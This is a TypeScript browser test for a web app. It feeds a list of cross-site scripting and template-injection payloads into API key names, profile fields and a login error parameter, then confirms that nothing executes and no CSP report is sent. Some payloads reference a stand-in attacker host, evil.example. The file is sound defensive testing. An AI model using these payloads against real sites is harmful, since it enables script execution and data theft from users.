import { call, patch, planned } from './support/people.ts'
import { heading, openAs } from './support/steps.ts'
import { expect, test } from './support/test.ts'

/** What attackers type: markup, handlers, addresses that run, templates, and what breaks out of them. */
const payloads = [
  '<script>window.__pwned=1</script>',
  '</script><script>__pwned=1</script>',
  '<img src=x onerror=__pwned=1>',
  '<svg onload=__pwned=1>',
  '<svg><script>__pwned=1</script></svg>',
  '"><img src=x onerror=__pwned=1>',
  "'><img src=x onerror=__pwned=1>",
  '" onmouseover="__pwned=1" autofocus onfocus="__pwned=1',
  "' onfocus='__pwned=1' autofocus='",
  'javascript:__pwned=1',
  'jAvAsCrIpT:__pwned=1//',
  'data:text/html,<script>__pwned=1</script>',
  '<a href="javascript:__pwned=1">x</a>',
  '<iframe src="javascript:__pwned=1"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>">',
  '<body onload=__pwned=1>',
  '<details open ontoggle=__pwned=1>',
  '<video><source onerror=__pwned=1></video>',
  '<math><mtext></mtext><script>__pwned=1</script></math>',
  '<template><script>__pwned=1</script></template>',
  '<style>*{background:url(//evil.example)}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=x>',
  '<object data=//evil.example/x.swf>',
  '<embed src=//evil.example/x.swf>',
  '<input autofocus onfocus=__pwned=1>',
  '<marquee onstart=__pwned=1>',
  '<isindex action=javascript:__pwned=1>',
  '{{constructor.constructor("__pwned=1")()}}',
  '$' + '{__pwned=1}',
  '#{__pwned=1}',
  '<%= __pwned=1 %>',
  '{{t}} {{name}} $& $1',
  '\\"-__pwned=1-\\"',
  '`;__pwned=1;`',
  '%3Cscript%3E__pwned=1%3C/script%3E',
  '&lt;img src=x onerror=__pwned=1&gt;',
  '<x onclick=__pwned=1 tabindex=0 id=x>#x',
]

const screens = [
  ['/dashboard', 'Dashboard'],
  ['/account', 'Account'],
  ['/account/profile', 'Profile'],
  ['/account/notifications', 'Notifications'],
  ['/account/billing', 'Billing'],
  ['/account/apikeys', 'API keys'],
  ['/account/apikeys?sort=name', 'API keys'],
  ['/help', 'Help'],
  ['/welcome', /./],
] as const

test(`[T-01] [T-02] ${payloads.length} payloads in every name, on every page, run nothing and are shown as typed`, async ({
  page,
}) => {
  test.slow()
  const person = await planned()
  const reports: string[] = []
  page.on(
    'request',
    request => request.url().endsWith('/csp-report') && reports.push(request.postData() ?? ''),
  )
  // Keys, of which a plan takes as many as one likes when they are revoked.
  for (const name of payloads) {
    const { token } = person.user
    const { data } = await call<{ id: string }>('POST', '/api/key', {
      token,
      body: { name, scope: ['event.create'] },
    })
    await call('PATCH', `/api/key/${data.id}`, { token, body: { active: false } })
  }
  // As many at once as there are fields: each payload stands somewhere, and the account's name holds one every time.
  for (let n = 0; n < payloads.length; n += 3) {
    const [first_name = 'a', last_name = 'b', account_name = 'c'] = payloads.slice(n, n + 3)
    const { user } = person
    await patch(user, { first_name, last_name, account_name, onboarded: true })
    const named = {
      ...person,
      user: {
        ...user,
        name: `${first_name} ${last_name}`,
        accounts: user.accounts.map(account => ({ ...account, name: account_name })),
      },
    }
    const [path, title] = screens[(n / 3) % screens.length] ?? screens[0]
    await openAs(page, named, path)
    await expect(heading(page, title)).toBeVisible()
    if (path === '/account/profile') {
      await expect(page.getByLabel('First name')).toHaveValue(first_name)
      await expect(page.getByLabel('Last name')).toHaveValue(last_name)
    }
    expect(await page.evaluate(() => Object.hasOwn(window, '__pwned'))).toBe(false)
  }
  // Every fifth: what is shown there is one text of ours, whatever stands in the address.
  for (const payload of payloads.filter((_, n) => n % 5 === 0)) {
    await page.goto(`/login?error=${encodeURIComponent(payload)}`)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    expect(await page.evaluate(() => Object.hasOwn(window, '__pwned'))).toBe(false)
  }
  expect(reports).toEqual([])
})
